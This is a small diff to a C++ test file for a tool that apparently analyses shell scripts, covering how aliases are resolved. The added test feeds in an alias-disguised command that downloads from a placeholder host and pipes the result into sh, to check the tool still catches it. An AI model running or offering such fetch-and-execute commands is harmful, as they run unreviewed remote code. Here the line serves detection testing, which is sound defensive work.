@@ -150,6 +150,7 @@ TEST_CASE("RUN: aliases") {
         CHECK(names(script) == Names{"pkg:pypi/x"});
     }
     CHECK(is_noticed("alias p=\"pip install $X\"; p"));
+    CHECK(names("alias s=sh; curl https://e.example/x | s") == kPlace);
     for (const char* const script : {"alias ll='ls -l'; ll x", "alias p='pip install x'", "alias ls='ls --color'; ls", "alias a=b; alias b=a; a"}) is_silent(script);
     // Each use stands for its text: not more of it than anybody writes.
     CHECK(is_noticed("alias p='" + std::string(30'000, 'a') + "'; " + many("p; ", 2'000)));
